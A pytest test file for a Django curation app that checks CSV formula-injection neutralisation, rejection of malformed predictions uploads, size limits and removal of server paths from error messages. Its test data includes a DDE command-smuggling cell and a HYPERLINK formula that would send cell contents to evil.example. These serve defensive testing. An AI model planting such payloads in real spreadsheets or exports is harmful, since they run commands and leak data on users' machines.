"""Second hardening round, curation side: CSV cells that spreadsheets would
run, hostile predictions files, and upload sizes checked before reading."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.files.base import File
from django.core.files.storage import default_storage
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from curation.benchmarks.mrb import benchmark as mrb_benchmark
from curation.evaluation import service as evaluations
from curation.models import AuditEvent, Evaluation
from curation.spreadsheet_cells import neutralised
from tests.curation.evaluation.test_evaluations import judge_lines, records_of, upload
from tests.curation.releases.test_releases import built, make_release_project
from tests.curation.verdicts.test_decisions import contested_item
from tests.factories import make_member, make_user

pytestmark = pytest.mark.django_db


@pytest.fixture
def release(tmp_path):
    return built(make_release_project(tmp_path, slug="hd"))


FORMULAS = ['=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_get_an_apostrophe(value):
    assert neutralised(value) == "'" + value


@pytest.mark.parametrize("value", ["-0.25", "+3", "1e-5", "model-a", "", 7, -1.5, None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralised(value) == value


# Issue 29: a formula after a separator, for a reader that splits the cell there.
SPLIT = [
    ("a;=1+1", "a;'=1+1"),
    ("ok,-2+3+cmd|' /C calc'!A0", "ok,'-2+3+cmd|' /C calc'!A0"),
    ("see\n@SUM(A1)", "see\n'@SUM(A1)"),
    ("a\t=1", "a\t'=1"),
    ("a\r\n+1+1", "a\r\n'+1+1"),
    ("a| =1", "a|' =1"),
    ('a;"=1+1"', 'a;\'"=1+1"'),
    ("=1;=2", "'=1;'=2"),
]


@pytest.mark.parametrize(("value", "expected"), SPLIT)
def test_a_formula_after_any_separator_gets_an_apostrophe_after_it(value, expected):
    assert neutralised(value) == expected


@pytest.mark.parametrize(
    "value", ["a;b", "0.5;-0.25", "1,2,3", "x - y", "e-mail", "a;b=c", "x\ny", "q&a @ home"]
)
def test_safe_cells_with_separators_are_left_byte_for_byte(value):
    assert neutralised(value) == value


@given(st.text(alphabet=st.sampled_from(list("ab1.;,|\t\n\r =+-@\"'")), max_size=12))
def test_no_piece_of_a_neutralised_cell_is_a_formula_at_any_separator(value):
    out = neutralised(value)
    # The cell as a whole: OWASP's first-character rule.
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r")) or spreadsheet_number(out)
    # Each piece after a separator, spaces or a quote before its trigger allowed.
    for piece in re.split(r"[,;\t\r\n|]", out)[1:]:
        trimmed = piece.lstrip(' "')
        assert not trimmed.startswith(("=", "+", "-", "@")) or spreadsheet_number(piece), out
    if not re.search(r"^[=+\-@\t\r]|[,;\t\r\n|][ \"]*[=+\-@]", value):
        assert out == value


def spreadsheet_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.lower().lstrip("+-") not in ("inf", "infinity", "nan")


def test_the_votes_export_neutralises_a_formula_after_a_semicolon_only(client):
    from curation.exports.formats import csv_pieces

    columns = [("id", "int"), ("rationale", "string")]
    rows = [(1, "a;=1+1"), (2, "fine; really"), (3, "-0.5")]
    text = b"".join(csv_pieces(columns, rows)).decode()
    assert text == "id,rationale\r\n1,a;'=1+1\r\n2,fine; really\r\n3,-0.5\r\n"


def test_the_leaderboard_csv_neutralises_a_model_name(client, release):
    client.force_login(make_member(release.project, role="curator"))
    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert upload(client, release, name, judge_lines(records_of(release))).status_code == 302
    url = reverse("leaderboard", args=[release.project.slug, release.pk])
    table = list(csv.reader(io.StringIO(client.get(url + "?download=csv").content.decode())))
    assert table[1][0] == "'" + name
    assert all(not cell.startswith(("=", "+", "@")) for row in table for cell in row)


def test_the_audit_csv_neutralises_reasons(client):
    project, item, v, _ = contested_item()
    client.force_login(make_member(project, role="curator"))
    client.post(
        reverse("decide", args=[project.slug, item.pk]),
        {"action": "exclude", "category": "ambiguous", "reason": "@SUM(1+1)", "version": v.version},
    )
    assert AuditEvent.objects.filter(reason="@SUM(1+1)").exists()
    response = client.get(reverse("audit_log", args=[project.slug]), {"download": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert "'@SUM(1+1)" in [r[6] for r in rows]


@pytest.mark.parametrize(
    "line",
    [
        b"[" * 100_000 + b"]" * 100_000,  # deep nesting
        b'{"ID": "x", "output": ' + b"9" * 5000 + b"}",  # a huge integer
        b'{"ID": "x\\u0000", "output": "[[A]]"}',  # NUL
        b'{"ID": "x", "output": "\\ud800 [[A]]"}',  # an unpaired surrogate
        b'{"ID\\u0000": "x", "output": "[[A]]"}',
    ],
)
def test_hostile_predictions_are_a_400_naming_the_line(client, release, line):
    client.force_login(make_member(release.project, role="curator"))
    good = judge_lines(records_of(release)).split(b"\n")
    data = b"\n".join([good[0], line, *good[1:]])
    response = upload(client, release, "hostile", data)
    assert response.status_code == 400
    text = response.content.decode()
    assert "preds.jsonl" in text and "line 2" in text
    assert not Evaluation.objects.exists()


def test_an_oversized_predictions_file_is_refused_before_it_is_read(client, release, monkeypatch):
    client.force_login(make_member(release.project, role="curator"))
    monkeypatch.setattr(evaluations, "MAX_PREDICTIONS_BYTES", 100)

    def never(*args, **kwargs):
        raise AssertionError("the file was read")

    monkeypatch.setattr(mrb_benchmark, "lines_of", never)
    response = upload(client, release, "big", judge_lines(records_of(release)))
    assert response.status_code == 400
    assert "larger than 100 bytes" in response.content.decode()
    assert not Evaluation.objects.exists()


class LineByLineOnly(io.BytesIO):
    def read(self, size=-1):
        assert size is not None and size >= 0, "read whole"
        return super().read(size)


def test_predictions_are_read_line_by_line_not_whole(release):
    data = judge_lines(records_of(release))
    upload_file = File(LineByLineOnly(data), name="preds.jsonl")
    evaluation = evaluations.evaluate_upload(
        release=release, name="ok", predictions=upload_file, filename="preds.jsonl",
        user=make_user(),
    )  # fmt: skip
    with default_storage.open(evaluation.predictions) as fh:
        assert fh.read() == data
    assert evaluation.accuracy == 1.0


def test_a_predictions_line_over_the_limit_is_refused(release, monkeypatch):
    monkeypatch.setattr(mrb_benchmark, "MAX_LINE_BYTES", 50)
    with pytest.raises(evaluations.EvaluationError, match=r"p\.jsonl: line 1: longer than 50"):
        evaluations.evaluate_upload(
            release=release, name="x", predictions=b'{"ID": "' + b"x" * 100 + b'"}',
            filename="p.jsonl",
        )  # fmt: skip


def test_a_failed_release_shows_no_server_path_host_or_pid(tmp_path, monkeypatch, settings):
    import os
    import socket

    from curation.models import ReleaseStatus
    from curation.releases import build
    from tests.curation.releases.test_releases import new_release

    project = make_release_project(tmp_path, slug="fp")
    release = new_release(project, "v9")
    long_name = "images/" + "a" * 300 + ".png"

    def too_long(folder, archive, root):
        raise OSError(36, "File name too long", str(folder / long_name))

    monkeypatch.setattr(build.exporter, "write_zip", too_long)
    with pytest.raises(OSError):
        build.build_release(release_id=release.pk)
    release.refresh_from_db()
    assert release.status == ReleaseStatus.FAILED
    assert release.error == f"OSError: File name too long ({long_name})"
    for secret in (str(settings.MEDIA_ROOT), str(tmp_path), socket.gethostname(), str(os.getpid())):
        assert secret not in release.error


def test_other_build_errors_lose_their_paths_too(tmp_path):
    from pathlib import Path

    from curation.releases.build import public_error

    work = Path("/srv/var/releases/.building/7-host-123-abc")
    exc = ValueError(f"cannot read {work}/fp-v9/all_data.json on {Path('/srv/var')}")
    shown = public_error(exc, work=work, hidden=[Path("/srv/var")])
    assert shown == "ValueError: cannot read …/fp-v9/all_data.json on …"
